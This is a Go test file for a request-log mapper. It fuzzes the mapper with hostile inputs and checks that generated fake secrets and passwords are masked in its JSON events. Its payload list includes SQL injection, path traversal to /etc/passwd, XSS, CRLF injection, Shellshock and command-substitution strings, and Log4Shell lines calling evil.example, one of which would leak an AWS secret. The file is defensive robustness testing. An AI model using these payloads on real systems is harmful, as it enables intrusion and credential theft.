package mapper

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/actiontrail/actiontrail/event"
	"github.com/actiontrail/actiontrail/plugins"
)

// hostileRules show as much of a request as rules can.
func hostileRules(t testing.TB) *Rules {
	return &Rules{
		Name: "h",
		Routes: []Route{{Pattern: pattern(t, "* /r/{name}/{rest...}"), Action: Join(Literal("Do"), value(t, "path.name")), ResourceType: value(t, "headers.authorization"), ResourceName: value(t, "path.rest"),
			Parameters: []Named{{"agent", value(t, "user_agent")}, {"key", value(t, "fields.http_x_api_key")}}, Additional: []Named{{"who", value(t, "query.user")}, {"lower", apply(t, "lower", value(t, "headers.authorization"))}}}},
		Params:   Params{Keep: []string{"q", "page", "user", "url"}, Headers: []string{"X-Trace", "Authorization", "Cookie", "X-Api-Key"}},
		Identity: Identity{AccountID: value(t, "query.user"), Order: []string{"jwt.sub", "api_key", "k8s.user", "consumer", "user_id", "remote_user", "header:x-trace"}},
		Console:  Console{Hosts: []string{"console.example"}, When: apply(t, "contains", value(t, "headers.authorization"), Literal("x"))},
	}
}

// checkHostile maps a line and returns the event's JSON, which is what it must be.
func checkHostile(t *testing.T, m *Mapper, line string) string {
	t.Helper()
	text := func() string {
		var e event.Event
		r := plugins.Record{Data: []byte(line)}
		if err := m.Map(&r, &e); err != nil {
			m.Unparsed(&r, err, &e)
		}
		return string(e.AppendJSON(nil))
	}
	first := text()
	if second := text(); second != first {
		t.Fatalf("mapped twice:\n%s\n%s\nline %q", first, second, line)
	}
	if !utf8.ValidString(first) || !json.Valid([]byte(first)) {
		t.Fatalf("not JSON: %q\nline %q", first, line)
	}
	back, err := event.ParseJSON([]byte(first))
	if err != nil {
		t.Fatalf("%v: %s", err, first)
	}
	if again := string(back.AppendJSON(nil)); again != first {
		t.Fatalf("read back:\n%s\n%s", first, again)
	}
	return first
}

// attacks are what scanners and attackers send.
func attacks() []string {
	return []string{
		`' OR '1'='1' --`, `1; DROP TABLE users;--`, `" UNION SELECT NULL,NULL,@@version#`, `admin'/**/--`, `../../../../etc/passwd`, `..%2f..%2f..%2fetc%2fpasswd`, `%2e%2e/%2e%2e/`, `..\..\windows\win.ini`, `....//....//`,
		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `javascript:alert(1)`, "\r\nSet-Cookie: a=b", "%0d%0aX-Injected: 1", "\r\n\r\n<html>", "\n127.0.0.1 - root [", `${jndi:ldap://evil.example/a}`, `${${lower:j}ndi:${env:AWS_SECRET_ACCESS_KEY}}`,
		"\x00", "%00", "a\x00b", "\xc0\xaf", "\xe0\x80\xaf", "\xf0\x80\x80\xaf", "\xff\xfe", "\xed\xa0\x80", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "${7*7}", "%{7*7}", "\u202e", "\u200b", "ｓｃｒｉｐｔ", "é", "e\u0301", "\U0001F600", "İ", "ß",
		`\x22`, `\"`, `\\`, `\u0000`, `\`, `"`, `","eventName":"Forged`, `"}`, `{"`, `[`, `]`, ` [21/Nov/2026:01:26:57 +0000] "`, "-", "/", "//", "?", "&", "=", "&&==", "%", "%zz", "%u0041", "+", ";", "#", "@", ":", "://", ",", "\t", "\x7f", "\x1b[31m",
		"() { :;}; /bin/bash -c id", "$(id)", "`id`", "|id", "{$ne:1}", "[$gt]=", "*", "null", "true", "NaN", "-1", "99999999999999999999999", "0x41", "CON", "file:///etc/passwd", "gopher://x", "//evil.example", "https://user@evil.example/",
		strings.Repeat("A", 3000), strings.Repeat("/", 300), strings.Repeat("a=b&", 200), strings.Repeat("%2e", 200), strings.Repeat("\xff", 100), strings.Repeat("../", 100), strings.Repeat("(", 200), strings.Repeat(" ", 100),
	}
}

// Whatever is sent, and wherever in a request, a record becomes an event that is
// valid, the same each time, and read back the same.
func TestHostileLines(t *testing.T) {
	t.Parallel()
	r := rand.New(rand.NewPCG(42, 1))
	all := attacks()
	attack := func() string {
		var b strings.Builder
		for range 1 + r.IntN(3) {
			s := all[r.IntN(len(all))]
			switch r.IntN(8) {
			case 0:
				s = url.QueryEscape(s)
			case 1:
				s = s[:r.IntN(len(s)+1)]
			case 2:
				s = strings.ToUpper(s)
			}
			b.WriteString(s)
		}
		return b.String()
	}
	for _, w := range writers() {
		m := newMapper(t, w.options(Options{Rules: hostileRules(t), KeepRaw: r.IntN(2) == 0}))
		for range 5000 / len(writers()) {
			c := asked{method: "GET", path: "/r/a/b"}
			for range 1 + r.IntN(3) {
				s := attack()
				switch r.IntN(11) {
				case 0:
					c.path = "/" + s
				case 1:
					c.path = "/r/" + s + "/" + s
				case 2:
					c.query = s
				case 3:
					c.query = "q=" + s + "&" + s + "=" + s + "&user=" + s
				case 4:
					c.referer = s
				case 5:
					c.agent = s
				case 6:
					c.user = s
				case 7:
					c.host, c.id = s, s
				case 8:
					c.trace, c.apiKey = s, s
				case 9:
					c.authorization = []string{s, "Bearer " + s, "Bearer " + jwt(s), "Basic " + s}[r.IntN(4)]
				case 10:
					c.method = s
				}
			}
			line := w.write(&c)
			if r.IntN(10) == 0 {
				line = line[:r.IntN(len(line)+1)]
			}
			checkHostile(t, m, line)
		}
	}
}

// secrets makes one of each kind of secret that is known by its form.
func secrets(r *rand.Rand) map[string]string {
	draw := func(n int, alphabet string) string {
		b := make([]byte, n)
		for i := range b {
			b[i] = alphabet[r.IntN(len(alphabet))]
		}
		return string(b)
	}
	const capital, small, digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZ", "abcdefghijklmnopqrstuvwxyz", "0123456789"
	const alnum = capital + small + digits
	aws := draw(40, alnum)
	for !isRandom(aws) { // one of a hundred
		aws = draw(40, alnum)
	}
	return map[string]string{
		"aws id": "AKIA" + draw(16, capital+digits), "aws session": "ASIA" + draw(16, capital+digits), "aws secret": aws,
		"github": "ghp_" + draw(36, alnum), "github app": "ghs_" + draw(36, alnum), "github fine": "github_pat_" + draw(22, alnum) + "_" + draw(59, alnum),
		"gitlab": "glpat-" + draw(20, alnum+"_-"), "slack": "xoxb-" + draw(12, digits) + "-" + draw(24, alnum), "slack app": "xapp-1-A" + draw(10, capital+digits) + "-" + draw(20, digits),
		"stripe": "sk_live_" + draw(24, alnum), "stripe restricted": "rk_test_" + draw(24, alnum), "google": "AIza" + draw(35, alnum+"_-"), "npm": "npm_" + draw(36, alnum), "pypi": "pypi-AgEIcHlwaS5vcmcC" + draw(60, alnum+"_-"),
		"openai": "sk-proj-" + draw(40, alnum), "vault": "hvs." + draw(24, alnum), "aliyun": "LTAI" + draw(20, alnum), "docker": "dckr_pat_" + draw(27, alnum+"_-"), "webhook": "whsec_" + draw(32, alnum),
		"jwt": jwt(`{"sub":"` + draw(12, alnum) + `"}`),
	}
}

// places puts a secret into a call, in each way that it may be sent.
func places(r *rand.Rand, secret string) map[string]asked {
	hex := fmt.Sprintf("%%%02X", secret[3])
	encoded := secret[:3] + hex + secret[4:]
	c := func(change func(*asked)) asked {
		one := asked{method: "GET", path: "/r/a/b", agent: "curl/8"}
		change(&one)
		return one
	}
	all := map[string]asked{}
	for _, s := range []string{secret, "x-" + secret, encoded} {
		for _, name := range []string{"q", "page", "url", "user", "unknown", "version"} {
			all["query "+name+s] = c(func(c *asked) { c.query = "a=1&" + name + "=" + s })
		}
		all["query name"+s] = c(func(c *asked) { c.query = s + "&a=1" })
		all["path"+s] = c(func(c *asked) { c.path = "/reset/" + s + "/x" })
		all["captured"+s] = c(func(c *asked) { c.path = "/r/" + s + "/x/" + s })
		all["resolved"+s] = c(func(c *asked) { c.path = "/" + s + "/../orders" })
		all["referer"+s] = c(func(c *asked) { c.referer = "https://app.example/reset/" + s })
		all["referer query"+s] = c(func(c *asked) { c.referer = "https://app.example/?a=" + s })
		all["referer fragment"+s] = c(func(c *asked) { c.referer = "https://app.example/x#" + s })
	}
	all["agent"] = c(func(c *asked) { c.agent = "tool/1.0 (" + secret + "; x)" })
	all["agent alone"] = c(func(c *asked) { c.agent = secret })
	all["user"] = c(func(c *asked) { c.user = secret })
	all["header"] = c(func(c *asked) { c.trace = secret })
	all["header with more"] = c(func(c *asked) { c.trace = "a, " + secret })
	all["id"] = c(func(c *asked) { c.id = secret })
	all["host"] = c(func(c *asked) { c.host = secret + ".example" })
	all["bearer"] = c(func(c *asked) { c.authorization = "Bearer " + secret })
	all["authorization"] = c(func(c *asked) { c.authorization = secret })
	all["key"] = c(func(c *asked) { c.apiKey = secret })
	return all
}

// labelled puts a password that nothing marks by itself behind a name, or into an address.
func labelled(secret string) map[string]asked {
	all := map[string]asked{}
	for _, name := range []string{"password", "passwd", "user_pass", "client_secret", "access_token", "X-Amz-Signature", "api_key", "jsessionid", "Pwd"} {
		if name == "user_pass" {
			name = "pass"
		}
		pair := name + "=" + secret
		all["path "+name] = asked{method: "GET", path: "/a;" + pair + "/b", agent: "x"}
		all["encoded path "+name] = asked{method: "GET", path: "/a/" + name + "%3D" + secret, agent: "x"}
		all["query "+name] = asked{method: "GET", path: "/a", query: "a=b&" + pair, agent: "x"}
		all["kept "+name] = asked{method: "GET", path: "/a", query: "q=" + url.QueryEscape("x&"+pair), agent: "x"}
		all["referer "+name] = asked{method: "GET", path: "/a", referer: "https://app.example/x;" + pair + "/y", agent: "x"}
		all["encoded referer "+name] = asked{method: "GET", path: "/a", referer: "https://app.example/x;" + name + "%3d" + secret, agent: "x"}
		all["agent "+name] = asked{method: "GET", path: "/a", agent: "tool (" + pair + ")"}
		all["user "+name] = asked{method: "GET", path: "/a", user: pair, agent: "x"}
		all["header "+name] = asked{method: "GET", path: "/a", trace: "x; " + pair, agent: "x"}
	}
	all["agent password:"] = asked{method: "GET", path: "/a", agent: "tool password: " + secret}
	all["agent basic"] = asked{method: "GET", path: "/a", agent: "tool Basic " + base64.StdEncoding.EncodeToString([]byte("u:"+secret))}
	for place, c := range map[string]asked{
		"referer": {referer: "https://u:" + secret + "@app.example/x"}, "query": {query: "url=https://u:" + secret + "@app.example/x"}, "agent": {agent: "git (https://u:" + secret + "@app.example)"}, "header": {trace: "https://u:" + secret + "@app.example/x"},
		"encoded query": {query: "url=" + url.QueryEscape("https://u:"+secret+"@app.example/x")},
		"basic":         {authorization: "Basic " + base64.StdEncoding.EncodeToString([]byte("u:"+secret))},
		"private key":   {trace: "-----BEGIN RSA PRIVATE KEY-----" + secret + "-----END RSA PRIVATE KEY-----"},
		"encoded key":   {query: "q=" + url.QueryEscape("-----BEGIN PRIVATE KEY-----\n"+secret+"\n-----END PRIVATE KEY-----")},
	} {
		c.method, c.path = "GET", "/r/a/b"
		all["address "+place] = c
	}
	return all
}

// No secret whose form or name is known is anywhere in an event, whatever its
// kind, its place, and the dialect.
func TestNoSecretLeaves(t *testing.T) {
	t.Parallel()
	r := rand.New(rand.NewPCG(7, 7))
	for _, w := range writers() {
		shown := newMapper(t, w.options(Options{Rules: hostileRules(t)}))
		raw := newMapper(t, w.options(Options{KeepRaw: true}))
		check := func(what, secret string, c asked) {
			t.Helper()
			line := w.write(&c)
			for _, m := range []*Mapper{shown, raw} {
				lines := []string{line}
				if m == raw && r.IntN(8) == 0 { // masking what is not parsed takes its time
					lines = append(lines, strings.Replace(line, "200", "x", 1))
				}
				for _, line := range lines {
					if text := checkHostile(t, m, line); strings.Contains(text, secret) || strings.Contains(text, secret[:3]+fmt.Sprintf("%%%02X", secret[3])+secret[4:]) {
						t.Errorf("%s: %s is in the event\n%s\nline %s", w.format, what, text, line)
					}
				}
			}
		}
		for kind, secret := range secrets(r) {
			for place, c := range places(r, secret) {
				if kind == "aws secret" && strings.Contains(place, "x-") {
					continue // nothing marks it but its length
				}
				if len(kind+strings.TrimSuffix(place, secret)+w.format+w.logFormat)%3 != 0 {
					continue // all in all dialects take too long: a third of them each, not the same in all
				}
				check(kind+" in "+place, secret, c)
			}
		}
		password := fmt.Sprintf("Hunter%dx", r.IntN(1e6))
		for place, c := range labelled(password) {
			secret := password
			if strings.HasSuffix(place, "basic") {
				secret = base64.StdEncoding.EncodeToString([]byte("u:" + password))
			}
			check("password in "+place, secret, c)
		}
	}
}
